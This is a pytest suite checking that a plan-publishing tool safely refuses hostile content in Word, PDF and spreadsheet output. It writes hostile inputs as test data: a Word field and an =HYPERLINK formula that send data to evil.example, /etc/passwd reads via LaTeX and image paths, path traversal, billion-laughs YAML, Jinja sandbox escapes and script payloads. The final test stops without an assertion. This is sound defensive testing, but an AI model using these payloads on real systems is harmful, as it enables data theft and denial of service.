"""Safe to publish: hostile or careless content ends in a message naming its file and line, never in a
traceback, a hang, a change to what the plan says, or code of its own in the documents and workbook.

Each test writes its own input into a private copy of an example plan (the repository's content/ on
the bcf-2014 pack, or examples/bcf-2026) and runs the command an author would.
"""

from __future__ import annotations

import shutil
import struct
import subprocess
import re
import zipfile
import zlib
from pathlib import Path

import openpyxl
import yaml
import pytest
from lxml import etree
from pypdf import PdfReader

from conftest import REPO, copy_project, run_cli
from libreoffice_profile import recalculating_profile
from plan_edits import edit, expect, reported

SECTION = "content/sections/02-vision.md"
RISKS = "content/data/risks.yaml"
FINANCE = "content/data/finance.yaml"
PLAN = "content/plan.yaml"


def append(project: Path, file: str, text: str) -> int:
    """Add `text` at the end of a content file; return the line its first line lands on."""
    path = project / file
    old = path.read_text(encoding="utf-8")
    path.write_text(old + text, encoding="utf-8")
    return old.count("\n") + 1


def png(width: int = 8, height: int = 4) -> bytes:
    """A small valid PNG (red), written by hand so the test needs no imaging library."""
    raw = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


def no_traceback(run) -> None:
    assert "Traceback" not in run.out + run.err, run.out + run.err


# --- 1. Documents: no raw blocks, no Word fields ----------------------------------------------


def test_raw_blocks_and_raw_inlines_are_reported_at_their_lines(project: Path) -> None:
    first = append(project, SECTION, "\n\nA field: `<w:fldSimple/>`{=openxml} in a sentence.\n\n"
                                     "```{=typst}\n#read(\"plan.md\")\n```\n\n"
                                     "And `<b>x</b>`{=html}, then:\n\n"
                                     "~~~ {=latex}\n\\input{/etc/passwd}\n~~~\n\n"
                                     "```\n```{=typst} inside a plain code block is only text\n```\n")
    run = run_cli(project, "check")
    for offset, code in ((2, "Raw openxml code (`...`{=openxml})"), (4, "Raw typst code (```{=typst})"),
                         (8, "Raw html code (`...`{=html})"), (10, "Raw latex code (```{=latex})")):
        expect(run, f"{SECTION}:{first + offset}: {code} cannot go into the plan. It would go into the Word "
                    "and PDF documents as code of its own, which author text may not do. Write ordinary Markdown "
                    "instead; to show code as text, use a code block with nothing after its opening ``` (or a "
                    "`code span` with nothing after it).")
    assert not [line for line in reported(run) if f"{SECTION}:{first + 15}:" in line], reported(run)


def test_a_raw_block_in_a_data_field_is_reported(project: Path) -> None:
    line = edit(project, RISKS, "    lead: Chief Finance Officer, NHS Harrowdale CCG",
                '    lead: "Chief Finance Officer `x`{=openxml}"')
    run = run_cli(project, "check")
    expect(run, f"{RISKS}:{line}: Raw openxml code (`...`{{=openxml}}) cannot go into the plan. It would go into "
                "the Word and PDF documents as code of its own, which author text may not do. Write ordinary "
                "Markdown instead; to show code as text, use a code block with nothing after its opening ``` "
                "(or a `code span` with nothing after it).")


def test_a_raw_block_stops_the_build_and_leaves_output_alone(project: Path) -> None:
    (project / "output").mkdir()
    (project / "output" / "keep.txt").write_text("the last build", encoding="utf-8")
    append(project, SECTION, "\n\n```{=openxml}\n<w:p/>\n```\n")
    run = run_cli(project, "documents")
    assert run.code == 1
    no_traceback(run)
    assert "Raw openxml code" in run.out + run.err
    assert [p.name for p in (project / "output").iterdir()] == ["keep.txt"]


W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
HOSTILE_WORD = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
                ' INCLUDEPICTURE "https://evil.example/x.png" \\d </w:instrText></w:r>'
                '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def test_even_unchecked_raw_blocks_never_reach_word_or_typst(project: Path, tmp_path: Path) -> None:
    """Build the documents straight from the content, as if `check` had been skipped: the raw blocks are
    shown as text, never run (no Word field, and Typst reads no file of the build)."""
    from planpress.load.content import load_content
    from planpress.render.prose import render_prose
    from planpress.targets.document import _facts, write_word_and_pdf
    from planpress.targets.documents.markdown import render_plan_markdown

    append(project, SECTION, f"\n\n```{{=openxml}}\n{HOSTILE_WORD}\n```\n\nInline `{HOSTILE_WORD}`{{=openxml}}.\n\n"
                             "```{=typst}\n#read(\"plan.md\")\n```\n\nAnd `#read(\"plan.typ\")`{=typst}.\n")
    content, findings = load_content(project)
    content, _ = render_prose(content)
    document = render_plan_markdown(content, draft=True)
    docx, pdf = tmp_path / "plan.docx", tmp_path / "plan.pdf"
    write_word_and_pdf(content, document, _facts(content, document), docx, pdf)

    xml = zipfile.ZipFile(docx).read("word/document.xml")
    fields = etree.fromstring(xml).iter(f"{{{W}}}instrText", f"{{{W}}}fldSimple")
    assert not [f for f in fields if "INCLUDEPICTURE" in (f.text or "") + f.get(f"{{{W}}}instr", "")], \
        "an author's Word field reached the document"
    xml = xml.decode("utf-8")
    assert "&lt;w:instrText&gt;" in xml  # shown as code, as written
    text = " ".join(page.extract_text() for page in PdfReader(str(pdf)).pages)
    assert "link-anchors" not in text, "Typst read the build's plan.md into the PDF"
    assert "#read" in text  # shown as code, as written


def test_the_packs_do_not_rely_on_raw_attributes() -> None:
    """The reader has no raw attributes; a pack says what it means with a class on a div, and its
    filters.lua writes the raw code (page breaks, contents, landscape pages)."""
    users = [str(p.relative_to(REPO)) for p in (REPO / "templates").rglob("*")
             if p.is_file() and p.suffix in (".j2", ".md") and "{=" in p.read_text(encoding="utf-8")]
    assert users == []


# --- 2. Pictures -------------------------------------------------------------------------------


def test_a_picture_must_be_a_file_inside_content(project: Path, tmp_path: Path) -> None:
    (project / "content" / "images").mkdir()
    (project / "content" / "images" / "fake.png").write_text("not a picture", encoding="utf-8")
    outside = tmp_path / "secret.png"
    outside.write_bytes(png())
    (project / "content" / "images" / "link.png").symlink_to(outside)
    first = append(project, SECTION, "\n\n![web](https://evil.example/x.png)\n\n![abs](/etc/passwd)\n\n"
                                     "![up](../../../secret.png)\n\n![missing](../images/none.png)\n\n"
                                     "![fake](../images/fake.png)\n\n![link](../images/link.png)\n\n"
                                     "![data](data:image/png;base64,AAAA)\n\n![ref][logo]\n\n"
                                     "[logo]: file:///etc/passwd\n")
    run = run_cli(project, "check")
    hint = ("Put the picture in content/ (such as content/images/map.png), as a PNG, JPEG or GIF file, and write "
            "its path from this file, such as ![Map of the area](../images/map.png).")
    for offset, text in (
            (2, "'https://evil.example/x.png' is an address on the web (or a data: address), not a file in the plan"),
            (4, "'/etc/passwd' is an absolute path, not a file in the plan"),
            (6, "'../../../secret.png' leads out of content/ (with '..'): a picture must be a file inside content/"),
            (8, "'../images/none.png' is not there: there is no file content/images/none.png"),
            (10, "'../images/fake.png' is not the picture its name says: content/images/fake.png does not hold a "
                 "PNG file"),
            (12, "'../images/link.png' is a link (symlink) to a file outside content/, so it is not shown "
                 "(content/images/link.png)"),
            (14, "'data:image/png;base64,AAAA' is an address on the web (or a data: address), not a file in the "
                 "plan"),
            (18, "'file:///etc/passwd' is an address on the web (or a data: address), not a file in the plan")):
        expect(run, f"{SECTION}:{first + offset}: The picture {text}. {hint}")


def test_a_picture_in_a_data_field_is_refused(project: Path) -> None:
    line = edit(project, RISKS, "    lead: Chief Finance Officer, NHS Harrowdale CCG",
                '    lead: "![x](https://evil.example/track.png)"')
    run = run_cli(project, "check")
    expect(run, f"{RISKS}:{line}: A picture (![...](...)) cannot go in a field of a data file. Show pictures in a "
                "section's or an item's Markdown text, where the README shows how; in a field, describe it or "
                "link to it.")


def test_a_picture_inside_content_reaches_the_word_and_pdf_documents(project: Path) -> None:
    picture = png(16, 8)
    (project / "content" / "images").mkdir()
    (project / "content" / "images" / "map of the area.png").write_bytes(picture)
    append(project, SECTION, "\n\n![A map of the area](<../images/map of the area.png>)\n")
    run = run_cli(project, "documents")
    assert run.code == 0, run.out + run.err
    with zipfile.ZipFile(project / "output" / "harrowdale-bcf-plan.docx") as docx:
        media = [docx.read(name) for name in docx.namelist() if name.startswith("word/media/")]
    assert picture in media
    pages = PdfReader(str(project / "output" / "harrowdale-bcf-plan.pdf")).pages
    assert sum(len(page.images) for page in pages) == 1


# --- 3. The workbook: text is never a formula ----------------------------------------------------

FORMULA_LIKE = ['=HYPERLINK("https://evil.example/?d="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "=1+1"]


@pytest.fixture(scope="module")
def hostile_workbook(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The workbook of a plan whose risk leads and funding sources are written like formulas."""
    project = copy_project(tmp_path_factory.mktemp("workbook") / "plan")
    places = [(RISKS, "    lead: Chief Finance Officer, NHS Harrowdale CCG"),
              (RISKS, "    lead: Director of Adult Social Care, Harrowdale Borough Council"),
              (FINANCE, "  - source: Disabled Facilities Grant"),
              (FINANCE, "  - source: Social care capital grant"),
              (FINANCE, '  - source: "Harrowdale CCG: additional contribution"')]
    for (file, old), text in zip(places, FORMULA_LIKE):
        quoted = text.replace("\\", "\\\\").replace('"', '\\"')
        edit(project, file, old, old.split(":")[0] + f': "{quoted}"')
    run = run_cli(project, "workbook")
    assert run.code == 0, run.out + run.err
    return next((project / "output").glob("*.xlsx"))


def _written(path: Path, data_only: bool = False) -> dict[str, list]:
    book = openpyxl.load_workbook(path, data_only=data_only)
    return {sheet.title: [cell for row in sheet.iter_rows() for cell in row] for sheet in book}


def test_text_that_looks_like_a_formula_is_written_as_text(hostile_workbook: Path) -> None:
    cells = [cell for sheet in _written(hostile_workbook).values() for cell in sheet]
    placed = [text for text in FORMULA_LIKE if any(cell.value == text for cell in cells)]
    assert placed == FORMULA_LIKE, f"not every text reached the workbook: {placed}"
    for cell in cells:
        if cell.value in FORMULA_LIKE:
            assert cell.data_type == "s", f"{cell.coordinate}: {cell.value!r} was written as a formula"
    formulas = [cell for cell in cells if cell.data_type == "f"]
    assert formulas, "the pack's own formulas (totals, risk factors) must stay formulas"
    assert all(cell.value not in FORMULA_LIKE for cell in formulas)


def test_libreoffice_keeps_that_text_as_text(hostile_workbook: Path, tmp_path: Path) -> None:
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    assert soffice, "LibreOffice is needed: run `make test` as root, or install libreoffice-calc"
    result = subprocess.run([soffice, recalculating_profile(tmp_path), "--headless",
                             "--convert-to", "xlsx", "--outdir", str(tmp_path / "out"), str(hostile_workbook)],
                            capture_output=True, text=True, timeout=300)
    assert result.returncode == 0, result.stderr
    recalculated = _written(tmp_path / "out" / hostile_workbook.name, data_only=True)
    before = _written(hostile_workbook)
    for sheet, cells in before.items():
        after = {cell.coordinate: cell.value for cell in recalculated[sheet]}
        for cell in cells:
            if cell.value in FORMULA_LIKE:
                assert after[cell.coordinate] == cell.value, f"{sheet}!{cell.coordinate} became {after[cell.coordinate]!r}"
            elif cell.data_type == "f" and cell.value.startswith("=SUM("):
                assert isinstance(after[cell.coordinate], (int, float)), "a total was not worked out"


# --- 4. Loading limits --------------------------------------------------------------------------


def test_a_content_file_linked_from_outside_the_plan_is_refused(project: Path, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    for file in (RISKS, SECTION, "content/progress/2014-q3.yaml"):
        target = elsewhere / Path(file).name
        shutil.copy(project / file, target)
        (project / file).unlink()
        (project / file).symlink_to(target)
    run = run_cli(project, "check")
    for file in (RISKS, SECTION, "content/progress/2014-q3.yaml"):
        expect(run, f"{file}: This file is a link (symlink) to a file outside the plan's folder, so it is not "
                    "read. Copy the file into the plan's folder in place of the link, so that what is published "
                    "is what the plan holds.")


def test_a_link_inside_the_plans_folder_is_read(project: Path) -> None:
    shutil.move(project / RISKS, project / "risks-master.yaml")
    (project / RISKS).symlink_to(Path("../../risks-master.yaml"))
    run = run_cli(project, "check")
    assert run.code == 0, run.out + run.err


def test_a_file_too_large_is_refused_with_the_limit(project: Path) -> None:
    append(project, SECTION, "\n" + ("Padding that makes the section far longer than any plan needs. " * 16 + "\n")
           * 2100)
    run = run_cli(project, "check")
    expect(run, f"{SECTION}: This file is 2.1 MB, more than the 2 MB a content file may be. Split it: move some of "
                "the text into another section or item's file, or into a document the plan links to "
                "(content/data/documents.yaml), and keep data files to the figures the plan needs.")


BILLION_LAUGHS = "lol0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(
    f"lol{n}: &a{n} [*a{n - 1}, *a{n - 1}, *a{n - 1}, *a{n - 1}, *a{n - 1}, *a{n - 1}, *a{n - 1}, *a{n - 1}, *a{n - 1}]\n"
    for n in range(1, 10))


def test_yaml_aliases_cannot_expand_without_bound(project: Path) -> None:
    first = append(project, RISKS, "\n" + BILLION_LAUGHS)
    run = run_cli(project, "check")
    message = ("This file holds more than 100,000 values (counting each use of an alias such as *name in full), "
               "more than a content file may. Split the content: keep in this file only the figures the plan "
               "needs, and write out once what an alias repeats.")
    assert run.code == 1
    no_traceback(run)
    assert [f"{RISKS}:{line}: {message}" for line in range(first + 1, first + 11)
            if f"{RISKS}:{line}: {message}" in reported(run)], reported(run)


@pytest.mark.parametrize("text", ["deep: " + "[" * 20_000 + "]" * 20_000, "deep: " + "[" * 1_000_000,
                                  "deep:\n" + "".join(" " * (n + 1) + "- \n" for n in range(1_000)), "loop: &a [*a]"])
def test_yaml_nested_too_deep_is_refused(project: Path, text: str) -> None:
    """20,000 levels gave a RecursionError; a million crashed libyaml; an alias can hold itself."""
    first = append(project, RISKS, "\n" + text + "\n")
    run = run_cli(project, "check")
    assert run.code == 1
    no_traceback(run)
    found = [line for line in reported(run) if "nested more than 50 levels deep" in line]
    assert found and found[0].startswith(f"{RISKS}:"), run.out
    assert int(found[0].split(":")[1]) in range(first, first + 60)


def test_a_list_too_long_is_refused(project: Path) -> None:
    line = append(project, RISKS, "\nextra: [" + ", ".join(["x"] * 2_001) + "]\n")
    run = run_cli(project, "check")
    expect(run, f"{RISKS}:{line + 1}: This list holds 2,001 items, more than the 2,000 a list in a content file may "
                "hold. Keep the list to the items the plan reports: join lines that say the same thing (such as "
                "the same scheme, provider and area of spend), or move detail into a document the plan links to.")


@pytest.mark.parametrize("text,deepest", [
    ("\n".join("  " * n + "- item" for n in range(1_000)), ", 1000 levels at the deepest (line {})"),
    ("- " * 2_000 + "item", ""),
    ("> " * 2_000 + "quoted", ""),
])
def test_markdown_nested_too_deep_is_refused_at_once(project: Path, text: str, deepest: str) -> None:
    """A list 2,000 levels deep took minutes to build (Typst then refused it with no file or line)."""
    first = append(project, SECTION, "\n\n" + text + "\n")
    run = run_cli(project, "documents")
    at = first + 2 + (12 if deepest else 0)
    expect(run, f"{SECTION}:{at}: The lists and quotes here are nested more than 12 levels deep"
                f"{deepest.format(first + 2 + 999)}, more than the documents can show (counting each '>', each list "
                "marker and every two spaces of indentation before them). Flatten them: start a new list, or a new "
                "paragraph, where the nesting goes deeper than a reader can follow.")


def test_markdown_nested_within_the_limit_builds(project: Path) -> None:
    append(project, SECTION, "\n\n" + "\n".join("  " * n + "- item" for n in range(12)) + "\n\n"
           + "> " * 6 + "- - quoted\n")
    run = run_cli(project, "documents")
    assert run.code == 0, run.out + run.err


def test_too_many_files_in_a_folder_is_refused_at_once(project: Path) -> None:
    scheme = (project / "content/schemes/PE1.md").read_text(encoding="utf-8")
    for n in range(300):
        (project / f"content/schemes/ZZ{n}.md").write_text(scheme, encoding="utf-8")
    run = run_cli(project, "check")
    expect(run, "content/schemes: This folder holds 313 files, more than the 300 a plan may have in one folder, so "
                "none of them was read. Keep one file for each section, item or quarter the plan has, and move any "
                "others (old drafts, copies) out of content/.")
    assert len([line for line in reported(run)]) == 1, reported(run)


def test_finishing_the_word_file_takes_time_in_proportion_to_it(monkeypatch: pytest.MonkeyPatch) -> None:
    """Each table asked which section it is in by reading the rest of the body: minutes for a long plan.
    Now one pass from the end answers for every table in the body; none reads the rest of it again."""
    from docx import Document

    from planpress.targets.documents import docx as docx_target
    from planpress.targets.documents.docx import _tables

    asked = []
    monkeypatch.setattr(docx_target, "_in_landscape", lambda table: asked.append(table) or False)

    doc = Document()
    for n in range(1_500):
        doc.add_paragraph(f"Paragraph {n}")
        doc.add_table(rows=2, cols=3)
    _tables(doc)
    assert asked == []
    widths = doc.element.body.findall(".//{http://schemas.openxmlformats.org/wordprocessingml/2006/main}tblW")
    assert len(doc.tables) == 1_500 and len(widths) >= 1_500


# --- 5. Numbers ---------------------------------------------------------------------------------


@pytest.mark.parametrize("value", [".inf", "-.inf", ".nan", "1.0e+400", "-1.0e+400"])
@pytest.mark.parametrize("file,old,name,expected", [
    (FINANCE, '"£3,654,000"', "2014/15", "a well-formed sum of money, such as 1250000 or \"£1,250,000\""),
    (RISKS, "likelihood: 3", "likelihood", "a number (not infinite, and not .nan)"),
    ("content/data/metrics.yaml", "value: 712.4", "value", "a number (not infinite, and not .nan)"),
])
def test_infinite_and_not_a_number_are_refused(project: Path, value: str, file: str, old: str, name: str,
                                               expected: str) -> None:
    line = edit(project, file, old, old.split(":")[0] + f": {value}" if ":" in old else value)
    run = run_cli(project, "check")
    assert run.code == 1
    no_traceback(run)
    found = [x for x in reported(run) if x.startswith(f"{file}:{line}: '{name}' should be ")]
    assert found, reported(run)
    assert expected in found[0] or "whole number" in found[0]


@pytest.mark.parametrize("file,old,new,expected", [
    (FINANCE, '"£3,654,000"', '"£1,000,000,000,000,000"',
     "'2014/15' should be a sum of money less than £1,000,000,000,000 (this one is too large to be right)"),
    (RISKS, "likelihood: 3", "likelihood: 100000000000000000000",
     "'likelihood' should be a whole number less than 1,000,000,000,000,000 (this one is too large to be right)"),
])
def test_numbers_too_large_to_be_right_are_refused(project: Path, file: str, old: str, new: str,
                                                   expected: str) -> None:
    line = edit(project, file, old, new)
    run = run_cli(project, "check")
    assert run.code == 1
    assert any(x.startswith(f"{file}:{line}: {expected}") for x in reported(run)), reported(run)


# --- 6. The prose sandbox -----------------------------------------------------------------------


def test_an_expression_cannot_change_a_figure(project: Path) -> None:
    line = append(project, SECTION, "\n\n{{ scheme.PE2.update({'name': 'Changed by the text'}) }}"
                                    "{{ years.append('2099/00') }}\n")
    (project / "content/schemes/PE3.md").write_text(
        (project / "content/schemes/PE3.md").read_text(encoding="utf-8") + "\n\nQuoted: {{ scheme.PE2.name }}.\n",
        encoding="utf-8")
    run = run_cli(project, "check")
    expect(run, f"{SECTION}:{line + 2}: The text asks for something an author cannot use: access to attribute "
                "'update' of 'dict' object is unsafe. Use only the names of the plan's figures listed in the "
                "README, and the filters money, number, percent and long_date; a figure cannot be changed from "
                "the text.")


def test_the_figures_stay_as_they_are_for_the_other_texts(project: Path) -> None:
    from planpress.load.content import load_content
    from planpress.render.prose import render_prose

    append(project, SECTION, "\n\n{{ scheme.PE2.update({'name': 'Changed'}) }}\n")
    (project / "content/schemes/PE3.md").write_text(
        (project / "content/schemes/PE3.md").read_text(encoding="utf-8") + "\n\nQuoted: {{ scheme.PE2.name }}.\n",
        encoding="utf-8")
    content, _ = render_prose(load_content(project)[0])
    pe3 = next(doc for doc in content.schemes if doc.meta.reference == "PE3")
    text = pe3.intro + "".join(part.markdown for part in pe3.parts)
    assert "Quoted: Falls prevention service." in text


@pytest.mark.parametrize("expression,message", [
    ("{% for i in range(100000) %}{% for j in range(100000) %}x{% endfor %}{% endfor %}",
     "range() in the text counts 100,000 numbers, more than the 1,000 author text may"),
    ("{% for i in range(1000) %}{% for j in range(1000) %}{% for k in range(1000) %}{% endfor %}{% endfor %}"
     "{% endfor %}", "Working out the figures in this text takes longer than 2 seconds"),
    ("{{ 'x' * 1000000000 }}", "An expression in the text makes text or a value of more than 2,000,000 characters"),
    ("{% set l = [1,1,1,1,1,1,1,1,1,1] %}" + "{% set l = [l,l,l,l,l,l,l,l,l,l] %}" * 12 + "{{ l }}",
     "An expression in the text makes text or a value of more than 2,000,000 characters"),
    ("{% macro f(n) %}{% if n %}{{ f(n-1) }}{{ f(n-1) }}{% endif %}{% endmacro %}{{ f(60) }}",
     "Working out the figures in this text takes longer than 2 seconds"),
    ("{{ '{:>1000000000}'.format(1) }}", "The text asks for something an author cannot use"),
    ("{{ 'x' | center(1000000000) }}", "This expression cannot be read: No filter named 'center'"),
])
def test_an_expression_runs_within_limits(project: Path, expression: str, message: str) -> None:
    line = append(project, SECTION, "\n\n" + expression + "\n")
    run = run_cli(project, "check")
    assert run.code == 1
    no_traceback(run)
    assert any(x.startswith(f"{SECTION}:{line + 2}: {message}") for x in reported(run)), reported(run)


# --- 7. The command line ------------------------------------------------------------------------


@pytest.mark.parametrize("port", ["99999", "0", "-1", "eighty", "65536"])
def test_serve_refuses_a_port_that_is_not_one(project: Path, port: str) -> None:
    run = run_cli(project, "serve", f"--port={port}")
    assert run.code == 2
    no_traceback(run)
    assert f"argument --port: '{port}' is not a port: give a whole number from 1 to 65535, such as 8000" in run.err


# --- 8. Other hostile input ---------------------------------------------------------------------


@pytest.mark.parametrize("old,new,expected", [
    ("start: 2014-04-01", "start: 2014-02-30",
     "'2014-02-30' is not a date that exists (day is out of range for month). Write a real date as YYYY-MM-DD, "
     "such as 2025-09-30."),
    ("start: 2014-04-01", "start: 0000-04-01",
     "'0000-04-01' is not a date that exists (year 0 is out of range). Write a real date as YYYY-MM-DD, such as "
     "2025-09-30."),
    ("start: 2014-04-01", "start: !!int abc",
     "'abc' cannot be read as !!int (invalid literal for int() with base 10: 'abc'). Correct the value, or remove "
     "the tag !!int and write the value plainly."),
    ("area: Harrowdale", 'area: "Harrow\\x00dale"',
     "This line holds an invisible control character (0x0000), which no document, spreadsheet or web page can "
     "hold. Delete it: it usually comes pasted in with other text, or from an escape such as \\x01 or \\u0000 in "
     "double quotes."),
    ("template: bcf-2014", "template: ../../somewhere/else",
     "'template' should be the name of a template pack, not '../../somewhere/else'. Name a pack in templates/ (a "
     "plain name, with no '/' or '..'): one of bcf-2014, bcf-2025, bcf-2026, system-strategy."),
    ("end: 2016-03-31", "end: 2013-03-31",
     "'end' should be a date after the start (2014-04-01), not '2013-03-31'. Last day of the plan, such as "
     "2017-03-31."),
    ("end: 2016-03-31", "end: 2099-03-31",
     "'end' should be a date at most 20 years after the start (2014-04-01): a plan's period is a few years, not "
     "'2099-03-31'. Last day of the plan, such as 2017-03-31."),
])
def test_odd_values_in_yaml_are_findings(project: Path, old: str, new: str, expected: str) -> None:
    line = edit(project, PLAN, old, new)
    run = run_cli(project, "check")
    expect(run, f"{PLAN}:{line}: {expected}")


def test_a_control_character_in_markdown_is_refused(project: Path) -> None:
    line = append(project, SECTION, "\n\nA bell \x07 rings.\n")
    run = run_cli(project, "check")
    expect(run, f"{SECTION}:{line + 2}: This line holds an invisible control character (0x0007), which no document, "
                "spreadsheet or web page can hold. Delete it: it usually comes pasted in with other text, or from "
                "an escape such as \\x01 or \\u0000 in double quotes.")


def test_a_quarter_outside_any_plan_is_a_finding(project: Path) -> None:
    shutil.copy(project / "content/progress/2014-q3.yaml", project / "content/progress/9999-q4.yaml")
    run = run_cli(project, "check")
    expect(run, "content/progress/9999-q4.yaml: '9999-q4.yaml' is not named after a quarter. Name a progress file "
                "<year>-q<N>.yaml, such as 2025-q3.yaml for October to December 2025 (quarter 3 of 2025/26).")


def test_a_folder_named_like_a_content_file_is_a_finding(project: Path) -> None:
    (project / "content/schemes/ZZ9.md").mkdir()
    run = run_cli(project, "check")
    expect(run, "content/schemes/ZZ9.md: This is a folder or a special file, not a file of text. Move it out of "
                "content/, or rename it so that it does not end like a content file.")


def test_a_long_area_name_still_makes_file_names(project: Path) -> None:
    edit(project, PLAN, "area: Harrowdale", "area: " + "Harrowdale " * 40)
    run = run_cli(project, "data")
    assert run.code == 0, run.out + run.err
    (written,) = list((project / "output").glob("*.json"))
    assert len(written.name) < 100


def test_quotes_and_backslashes_in_the_boards_name_build_the_pdf(tmp_path: Path) -> None:
    project = tmp_path / "plan"
    shutil.copytree(REPO / "examples" / "bcf-2026", project, ignore=shutil.ignore_patterns("output", ".output-*"))
    edit(project, PLAN, "hwb: Kestrelford Health and Wellbeing Board",
         'hwb: "Kestrelford <b>\\" \\\\ ] #read(\\"plan.md\\") Board"')
    run = run_cli(project, "documents")
    assert run.code == 0, run.out + run.err
    text = " ".join(page.extract_text() for page in PdfReader(str(project / "output/kestrelford-bcf-plan.pdf")).pages)
    assert "link-anchors" not in text


def test_a_character_the_pdf_cannot_show_is_named_before_the_build(project: Path) -> None:
    """PDF/UA-1 refuses text its fonts cannot show; typst said so with no file or line."""
    line = append(project, SECTION, "\n\nA private character \U0010fffd and an unassigned \u0378 here.\n")
    run = run_cli(project, "check")
    hint = ("Write it another way (a plain letter, a word or a symbol the fonts have) or leave it out: an accessible "
            "PDF must be able to show every character it holds.")
    expect(run, f"{SECTION}:{line + 2}: The PDF's fonts cannot show the character '\U0010fffd' (U+10FFFD, a "
                f"private-use character), so the PDF cannot be made. {hint}")
    expect(run, f"{SECTION}:{line + 2}: The PDF's fonts cannot show the character '\u0378' (U+0378, not a character "
                f"Unicode assigns), so the PDF cannot be made. {hint}")


# --- what pandoc and Typst cannot take in time, or at all ----------------------------------------


def test_text_pandoc_cannot_read_in_time_is_named(project: Path) -> None:
    """Nested brackets take pandoc time that doubles with each level: 20 levels ran for hours."""
    line = append(project, SECTION, "\n\nA trap: " + "[" * 40 + "x" + "](y)" * 40 + "\n")
    run = run_cli(project, "check")
    # The part the text is in starts on its heading's next line: the finding names the part.
    found = [x for x in reported(run) if "Reading this text as the Word and PDF documents do takes more than 10 "
             "seconds" in x]
    assert found and found[0].startswith(f"{SECTION}:"), reported(run)
    assert int(found[0].split(":")[1]) <= line + 2


def test_text_nested_too_deep_for_the_pdf_is_named(project: Path) -> None:
    line = append(project, SECTION, "\n\n## A part of our own\n\n" + ":::: note\n" * 20 + "x\n" + "::::\n" * 20)
    run = run_cli(project, "check")
    expect(run, f"{SECTION}:{line + 3}: The text here is nested 20 levels deep as the documents read it (lists, "
                "quotes, emphasis, links and divs inside each other), more than the 16 the PDF can show. Flatten it: "
                "start a new list or paragraph where the nesting goes deeper than a reader can follow.")


def test_a_formula_too_large_for_typst_is_named(project: Path) -> None:
    """Typst crashed (a segmentation fault, taking the build with it) on a formula nested 1,000 deep."""
    line = append(project, SECTION, "\n\n## A part of our own\n\n$" + "\\frac{ " * 1000 + "x" + " }{2}" * 1000 + "$\n")
    run = run_cli(project, "check")
    expect(run, f"{SECTION}:{line + 3}: A formula here ($...$) holds 3000 commands, groups and sub- or superscripts, "
                "more than the 200 the PDF can lay out. Write the formula more simply, or describe it in words.")


def test_a_formula_builds_an_accessible_pdf(project: Path) -> None:
    """PDF/UA-1 needs alt text for a formula: without it typst refused the PDF with no file or line."""
    append(project, SECTION, "\n\nThe share is $\\frac{a}{b}$ of the fund.\n")
    run = run_cli(project, "documents")
    assert run.code == 0, run.out + run.err


def test_a_word_too_long_for_the_documents_is_named(project: Path) -> None:
    line = append(project, SECTION, "\n\n" + "x" * 50_000 + "\n")
    run = run_cli(project, "check")
    expect(run, f"{SECTION}:{line + 2}: A word here is 50,000 characters long with no space in it, more than the 1,000 "
                "a plan's text may have. Put spaces in it; a long address is better as a link with a short text, "
                "such as [the report](https://...).")


def test_a_page_of_placeholders_is_found_in_proportion_to_it(project: Path) -> None:
    """Each placeholder read all the text before it: 8,000 of them took a quarter of a minute."""
    from planpress.load.content import load_content
    from planpress.checks.unfinished import find_placeholders

    content, _ = load_content(project)
    # Before, this took hours; now it is a moment (the suite would be hours slower if it came back).
    found = list(find_placeholders("TBC " * 50_000 + "[" * 50_000, content.pack.placeholders))
    assert len(found) == 50_000


# --- what an expression writes is checked as if the author had written it ------------------------


@pytest.mark.parametrize("expression, message", [
    ('{{ "\\x00" }}', "Once its expressions are worked out, this line holds an invisible control character (0x0000)"),
    ('{{ "x" * 5000 }}', "Once its expressions are worked out, a word here is 5,000 characters long"),
    ('{{ "> " * 40 ~ "deep" }}', "Once its expressions are worked out, the lists and quotes here are nested"),
    ('{{ "\\u0378" }}', "The PDF's fonts cannot show the character '\u0378'"),  # no font has it
    ('{{ "`x`{=openxml}" }}', "Raw openxml code"),
    ('{{ "<scr" ~ "ipt>alert(1)</script>" }}', "Author text may not contain a <script> element"),
    ('{{ "[x](javascript:alert(1))" }}', "Author text may not link to 'javascript:alert(1)'"),
])
def test_what_an_expression_writes_is_checked_like_written_text(project: Path, expression: str, message: str) -> None:
    """A NUL written by {{ "\\x00" }} reached the PDF and Typst refused it with no file or line."""
    line = append(project, SECTION, "\n\n" + expression + " is the figure.\n")
    run = run_cli(project, "check")
    no_traceback(run)
    assert any(x.startswith(f"{SECTION}:{line + 2}: {message}") for x in reported(run)), reported(run)
    built = run_cli(project)  # refused before any output is made, or (HTML) built with it removed
    no_traceback(built)
    assert built.code == 1 and not (project / "output").exists() or "script" in message or "javascript" in message


def test_a_typst_refusal_names_the_authors_line_it_most_likely_came_from(project: Path, tmp_path: Path) -> None:
    """Typst can only name plan.typ: its message is given the content line that holds the same text."""
    from planpress.errors import BuildError
    from planpress.targets.document import _located
    from planpress.targets.documents.pdf import compile_pdf

    sentence = "The falls response team reaches people within two hours"
    line = append(project, SECTION, f"\n\n{sentence}.\n")
    typ = tmp_path / "plan.typ"
    typ.write_text(f"= Vision\n\n{sentence} #no-such-function().\n", encoding="utf-8")
    with pytest.raises(BuildError) as refused:
        compile_pdf(typ, tmp_path / "plan.pdf", root=tmp_path)
    message = _located(str(refused.value), project, typ)
    assert message.startswith(f"{SECTION}:{line + 2}: the PDF cannot be made from the text here (most likely)."), message
    assert "no-such-function" in message  # typst's own words follow

    unknown = _located("typst could not compile plan.typ to PDF/UA-1:\nthe text `\"\\u{0}\"` could not be displayed",
                       project, typ)
